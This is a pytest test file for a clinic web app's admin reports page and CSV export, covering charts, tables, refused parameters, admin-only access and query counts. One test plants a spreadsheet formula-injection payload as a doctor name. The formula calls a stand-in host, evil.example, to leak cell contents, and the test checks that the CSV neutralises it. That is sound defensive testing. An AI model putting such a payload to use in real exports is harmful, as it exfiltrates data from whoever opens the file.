"""/admin/reports and /admin/reports.csv: what an admin reads (charts with their tables, the
CSV with the same numbers), refused parameters, who may open them, and a constant number of
queries whatever the clinic's size. The arithmetic itself: tests/services/test_reports.py."""
import csv
import html
import io
import re
from datetime import date, timedelta

import pytest

from clinica_web.extensions import db
from clinica_web.models import CANCELLED, COMPLETED, NO_SHOW, SCHEDULED, Appointment
from clinica_web.services import reports
from tests.conftest import instant, table_snapshot

MONDAY = date(2026, 6, 8)
SUNDAY = MONDAY + timedelta(days=6)
WEEKS = f"from={MONDAY}&to={SUNDAY + timedelta(weeks=1)}"  # two weeks: 8-14 Jun and 15-21 Jun


@pytest.fixture
def admin(staff, login_as):
    return login_as(staff("admin", full_name="Ada Admin"))


@pytest.fixture
def visit(app, make_user):
    patients = {}

    def make(doctor_id, day, hhmm, *, minutes=30, status=SCHEDULED, lead_hours=24, late=False):
        patient_id = patients.get(doctor_id) or patients.setdefault(doctor_id, make_user())
        with app.app_context():
            start = instant(day, hhmm)
            db.session.add(Appointment(
                patient_id=patient_id, doctor_id=doctor_id, starts_at=start,
                ends_at=start + timedelta(minutes=minutes), duration_minutes=minutes, status=status,
                appointment_type="consultation", notes="", created_at=start - timedelta(hours=lead_hours),
                late_cancellation=late))
            db.session.commit()

    return make


@pytest.fixture
def two_doctors(make_doctor, make_block, visit):
    """Dr. Rossi: 09:00-12:00 on weekdays, away on Tuesday morning of the first week (720 open
    minutes), 90 booked; one visit of two missed; one late cancellation. Dr. Bianchi: no hours."""
    rossi = make_doctor(name="Dr. Laura Rossi", windows=(("09:00", "12:00"),))
    bianchi = make_doctor(name="Dr. Marco Bianchi", weekdays=())
    make_block(doctor_id=rossi, start=instant(MONDAY + timedelta(days=1), "09:00"),
               end=instant(MONDAY + timedelta(days=1), "12:00"))
    visit(rossi, MONDAY, "09:00", minutes=60, status=COMPLETED, lead_hours=72)
    visit(rossi, MONDAY, "10:00", status=NO_SHOW, lead_hours=12)
    visit(rossi, MONDAY, "11:00", status=CANCELLED, late=True)
    return rossi, bianchi


def text(response):
    return html.unescape(re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", response.text)))


def rows_of(response):
    return list(csv.reader(io.StringIO(response.text)))


def test_the_admin_reads_each_doctors_weeks_as_charts_and_tables(admin, two_doctors):
    response = admin.get(f"/admin/reports?{WEEKS}")
    assert response.status_code == 200
    page = text(response)
    # The charts: images with a title and a description, each followed by its table.
    assert response.text.count('role="img"') == 2
    assert '<title id="utilisation-chart-title">Utilisation per week, whole clinic</title>' in response.text
    assert 'aria-labelledby="no-show-chart-title" aria-describedby="no-show-chart-desc"' in response.text
    assert "No-shows of the visits that were due, over the weeks from 08 Jun 2026 to 21 Jun 2026: 1 of 2" in page
    assert "<script" not in response.text.split("</head>")[1]  # drawn on the server
    captions = [html.unescape(c) for c in re.findall(r"<caption[^>]*>(.*?)</caption>", response.text)]
    assert captions == ["Utilisation per week", "No-shows per week, whole clinic",
                        "Each doctor's week, and the whole clinic's"]
    assert response.text.count('<th scope="col">') == 4 + 5 + 9  # week, two doctors, clinic; 5; 9 columns
    # Rossi's first week: 720 open minutes, 90 booked; Bianchi has no hours.
    assert "Week of 8–14 Jun Dr. Laura Rossi 12 h 1 h 30 min 12.5% 2 1 50.0% 1 1.8 days" in page
    assert "Dr. Marco Bianchi 0 min 0 min — 0 0 — 0 —" in page
    assert "Whole clinic 12 h 1 h 30 min 12.5% 2 1 50.0% 1 1.8 days" in page
    assert "Week of 15–21 Jun Dr. Laura Rossi 15 h 0 min 0.0% 0 0 — 0 —" in page
    assert 'href="/admin/reports.csv?from=2026-06-08&amp;to=2026-06-21"' in response.text


def test_the_form_works_without_javascript_and_keeps_what_was_asked(admin, two_doctors):
    rossi, _bianchi = two_doctors
    response = admin.get(f"/admin/reports?{WEEKS}&doctor_id={rossi}")
    form = re.search(r'<form method="get" action="/admin/reports".*?</form>', response.text, re.S)[0]
    assert '<label for="report-from">First day</label>' in form
    assert 'name="from" type="date" value="2026-06-08"' in form
    assert 'name="to" type="date" value="2026-06-21"' in form
    assert f'<option value="{rossi}" selected>Dr. Laura Rossi</option>' in form
    page = text(response)
    assert "Dr. Marco Bianchi 0 min" not in page and "Whole clinic" not in page  # the one doctor only
    assert "No-shows per week, Dr. Laura Rossi" in page


def test_the_admin_index_links_to_the_reports(admin):
    assert 'href="/admin/reports"' in admin.get("/admin/").text


def test_an_empty_query_shows_the_last_four_weeks_and_this_one(admin, clock):
    clock.set(instant(date(2026, 11, 26), "10:00"))
    response = admin.get("/admin/reports?from=&to=&doctor_id=")
    assert response.status_code == 200
    assert 'value="2026-10-26"' in response.text and 'value="2026-11-29"' in response.text
    assert response.text.count('<th scope="row">') >= 5


def test_the_csv_has_the_pages_rows_and_numbers(admin, two_doctors):
    response = admin.get(f"/admin/reports.csv?{WEEKS}")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"] == 'attachment; filename="clinica-report-2026-06-08-2026-06-21.csv"'
    assert rows_of(response) == [
        ["Doctor", "Week start", "Week end", "Open minutes", "Booked minutes", "Utilisation %", "Visits due",
         "No-shows", "No-show rate %", "Late cancellations", "Median lead time (hours)"],
        ["Dr. Laura Rossi", "2026-06-08", "2026-06-14", "720", "90", "12.5", "2", "1", "50.0", "1", "42.0"],
        ["Dr. Marco Bianchi", "2026-06-08", "2026-06-14", "0", "0", "", "0", "0", "", "0", ""],
        ["Whole clinic", "2026-06-08", "2026-06-14", "720", "90", "12.5", "2", "1", "50.0", "1", "42.0"],
        ["Dr. Laura Rossi", "2026-06-15", "2026-06-21", "900", "0", "0.0", "0", "0", "", "0", ""],
        ["Dr. Marco Bianchi", "2026-06-15", "2026-06-21", "0", "0", "", "0", "0", "", "0", ""],
        ["Whole clinic", "2026-06-15", "2026-06-21", "900", "0", "0.0", "0", "0", "", "0", ""],
    ]
    page = text(admin.get(f"/admin/reports?{WEEKS}"))
    for name, _first, _last, open_minutes, booked, utilisation, due, missed, rate, late, _ in rows_of(response)[1:]:
        shown = [reports.duration(int(open_minutes)), reports.duration(int(booked)),
                 f"{utilisation}%" if utilisation else "—", due, missed, f"{rate}%" if rate else "—", late]
        assert " ".join([name, *shown]) in page


def test_the_csv_neutralises_doctor_names_a_spreadsheet_would_run(admin, make_doctor):
    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    for name in (evil, "+Dr. Plus", "-Dr. Minus", "@Dr. At"):
        make_doctor(name=name)
    rows = rows_of(admin.get(f"/admin/reports.csv?{WEEKS}"))[1:]
    assert {row[0] for row in rows} == {"'" + evil, "'+Dr. Plus", "'-Dr. Minus", "'@Dr. At", "Whole clinic"}
    assert evil in text(admin.get(f"/admin/reports?{WEEKS}"))  # the page shows the name as it is


HUGE = "9" * 5000


@pytest.mark.parametrize("query, message", [
    ("from=garbage&to=2026-06-14", "Invalid date format (YYYY-MM-DD)"),
    ("from=0001-01-01&to=2026-06-14", "Choose a date from 2000-01-01 to 2099-12-31"),
    ("from=2026-06-08&to=9999-12-31", "Choose a date from 2000-01-01 to 2099-12-31"),
    ("from=2026-06-14&to=2026-06-08", "The first day must not be after the last day"),
    ("from=2025-06-08&to=2026-06-14", "Choose at most 366 days"),
    ("from=2026-06-08%0A&to=2026-06-14", "Invalid date format (YYYY-MM-DD)"),
    (f"from={HUGE}&to=2026-06-14", "Invalid date format (YYYY-MM-DD)"),
    (f"{WEEKS}&doctor_id={HUGE}", "Choose a doctor from the list"),
    (f"{WEEKS}&doctor_id=abc", "Choose a doctor from the list"),
    (f"{WEEKS}&doctor_id=424242", "Choose a doctor from the list"),
])
def test_bad_parameters_are_refused_clearly_and_change_nothing(app, admin, two_doctors, query, message):
    before = table_snapshot(app)
    response = admin.get(f"/admin/reports?{query}")
    assert response.status_code == 400
    assert message in text(response) and "dates are fixed" not in text(response)  # whatever was wrong
    assert 'role="alert"' in response.text and 'aria-invalid="true"' in response.text
    assert "<svg" not in response.text and "<table" not in response.text  # nothing computed
    assert "Download CSV" not in response.text
    csv_response = admin.get(f"/admin/reports.csv?{query}")
    assert csv_response.status_code == 400 and message in text(csv_response)
    assert table_snapshot(app) == before


@pytest.mark.parametrize("role", ["reception", "doctor", "patient"])
def test_only_admins_open_the_reports(staff, login_as, make_user, role, two_doctors):
    user = make_user(role=role) if role == "patient" else staff(role)
    client = login_as(user)
    for url in (f"/admin/reports?{WEEKS}", f"/admin/reports.csv?{WEEKS}"):
        response = client.get(url)
        assert response.status_code == 403
        assert "Dr. Laura Rossi" not in response.text


def test_strangers_are_sent_to_log_in(client):
    for url in ("/admin/reports", "/admin/reports.csv"):
        assert client.get(url).headers["Location"].startswith("/login")


def test_the_page_and_the_csv_take_the_same_queries_for_a_small_and_a_bigger_clinic(
        admin, count_queries, make_doctor, make_block, visit):
    def queries():
        counts = []
        for url in (f"/admin/reports?from={MONDAY}&to={MONDAY + timedelta(weeks=8, days=-1)}",
                    f"/admin/reports.csv?from={MONDAY}&to={MONDAY + timedelta(weeks=8, days=-1)}"):
            counts.append(count_queries(lambda: admin.get(url)))
        return counts

    def add(doctors, weeks):
        for number in range(doctors):
            doctor = make_doctor(name=f"Dr. {number:03}")
            make_block(doctor_id=doctor, start=instant(MONDAY, "14:00"), end=instant(MONDAY, "18:00"))
            for week in range(weeks):
                visit(doctor, MONDAY + timedelta(weeks=week), "09:00", status=COMPLETED)
                visit(doctor, MONDAY + timedelta(weeks=week, days=2), "10:00", status=CANCELLED, late=True)

    add(1, 1)
    small = queries()
    add(10, 8)
    big = queries()
    assert small == big
    page = text(admin.get(f"/admin/reports?from={MONDAY}&to={MONDAY + timedelta(weeks=8, days=-1)}"))
    assert "Dr. 009" in page
